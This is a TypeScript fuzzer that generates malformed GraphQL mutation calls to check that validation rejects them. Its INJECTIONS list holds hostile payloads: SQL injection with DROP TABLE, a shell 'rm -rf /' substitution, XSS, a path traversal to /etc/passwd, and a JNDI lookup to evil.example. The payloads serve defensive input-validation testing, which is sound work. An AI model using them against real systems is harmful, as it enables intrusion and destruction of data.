import { randomUUID } from 'node:crypto';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';

/**
 * Generates malformed calls of a mutation from its schema: a plausible value for every argument and input
 * field, then one leaf at a time replaced by something that breaks the contract — a wrong type, an unknown enum
 * value, an impossible date, a string with a NUL or far longer than any limit, an injection string where an id,
 * number, enum or date belongs, a list of thousands of items, an unknown field, a missing required value.
 * Every generated call is malformed, so the only acceptable answer is a validation error.
 */
export const INJECTIONS = [
  "1' OR '1'='1",
  "'; DROP TABLE cases.ime_case; --",
  '$(rm -rf /)',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '{"$gt": ""}',
  '${jndi:ldap://evil.example/a}',
];
const HUGE = 'A'.repeat(250_000);

/** A tiny deterministic PRNG (mulberry32), so a failing case can be reproduced from the seed. */
export function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Path = (string | number)[];
interface Leaf {
  path: Path;
  type: GraphQLInputType;
}

function plausible(type: GraphQLInputType, ids: () => string, depth = 0): unknown {
  if (isNonNullType(type)) return plausible(type.ofType, ids, depth);
  if (isListType(type)) return [plausible(type.ofType, ids, depth)];
  if (isEnumType(type)) return type.getValues()[0].name;
  if (isInputObjectType(type)) {
    if (depth > 3) return null;
    return Object.fromEntries(Object.values(type.getFields()).map((f) => [f.name, plausible(f.type, ids, depth + 1)]));
  }
  switch (getNamedType(type).name) {
    case 'ID':
      return ids();
    case 'Int':
      return 1;
    case 'Float':
      return 1.5;
    case 'Boolean':
      return true;
    case 'LocalDate':
      return '2020-01-15';
    case 'DateTime':
      return '2020-01-15T10:00:00.000Z';
    default:
      return 'fuzz';
  }
}

function leaves(type: GraphQLInputType, path: Path, out: Leaf[], depth = 0): Leaf[] {
  out.push({ path, type });
  const inner = isNonNullType(type) ? type.ofType : type;
  if (isListType(inner)) leaves(inner.ofType, [...path, 0], out, depth);
  else if (isInputObjectType(inner) && depth <= 3) for (const f of Object.values(inner.getFields())) leaves(f.type, [...path, f.name], out, depth + 1);
  return out;
}

/** The malformed values that can replace a leaf of this type. */
function malformations(type: GraphQLInputType, random: () => number): unknown[] {
  const required = isNonNullType(type);
  const inner = isNonNullType(type) ? type.ofType : type;
  const pick = <T>(values: T[]) => values[Math.floor(random() * values.length)];
  const out: unknown[] = required ? [null] : [];
  // (A single value where a list belongs is not malformed: GraphQL coerces it to a one-item list.)
  if (isListType(inner)) return [...out, Array.from({ length: 5000 }, () => plausible(inner.ofType, () => randomUUID()))];
  if (isInputObjectType(inner)) return [...out, 'not an object', 42, { ...(plausible(inner, () => randomUUID()) as object), notAField: pick(INJECTIONS) }];
  if (isEnumType(inner)) return [...out, 'NOT_A_VALUE', pick(INJECTIONS), 7];
  if (!isScalarType(inner)) return out;
  switch (inner.name) {
    case 'ID':
      return [...out, pick(INJECTIONS), '', HUGE, 12345, { id: 1 }];
    case 'Int':
      return [...out, `1${pick(INJECTIONS)}`, 2 ** 40, 1.5, true];
    case 'Float':
      return [...out, 'NaN', pick(INJECTIONS), [1]];
    case 'Boolean':
      return [...out, 'yes', 1];
    case 'LocalDate':
      return [...out, '2021-02-30', pick(INJECTIONS), '15/01/2020', 20200115];
    case 'DateTime':
      return [...out, 'yesterday', pick(INJECTIONS), -1e20];
    default:
      return [...out, HUGE, `abc\u0000${pick(INJECTIONS)}`, 42, ['a'], { a: 1 }];
  }
}

function setAt(target: Record<string, unknown>, path: Path, value: unknown): Record<string, unknown> {
  const copy = structuredClone(target);
  let node: any = copy;
  for (const key of path.slice(0, -1)) {
    if (node[key] === null || node[key] === undefined) return copy;
    node = node[key];
  }
  node[path.at(-1)!] = value;
  return copy;
}

export interface MalformedCall {
  mutation: string;
  query: string;
  variables: Record<string, unknown>;
  what: string;
}

/** `perLeaf` malformed calls for every leaf of every argument of the mutation. */
export function malformedCalls(schema: GraphQLSchema, field: GraphQLField<unknown, unknown>, ids: () => string, random: () => number, perLeaf = 2): MalformedCall[] {
  const declarations = field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const call = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const selection = isScalarType(getNamedType(field.type)) ? '' : ' { __typename }';
  const query = `mutation Fuzz${declarations ? `(${declarations})` : ''} { ${field.name}${call ? `(${call})` : ''}${selection} }`;
  const baseline = Object.fromEntries(field.args.map((a) => [a.name, plausible(a.type, ids)]));
  const out: MalformedCall[] = [];
  for (const arg of field.args) {
    for (const leaf of leaves(arg.type, [arg.name], [])) {
      const options = malformations(leaf.type, random);
      for (let i = 0; i < Math.min(perLeaf, options.length); i++) {
        const value = options.splice(Math.floor(random() * options.length), 1)[0];
        const what = `${leaf.path.join('.')} = ${JSON.stringify(value)?.slice(0, 60)}`;
        out.push({ mutation: field.name, query, variables: setAt(baseline, leaf.path, value), what });
      }
    }
  }
  void schema;
  return out;
}
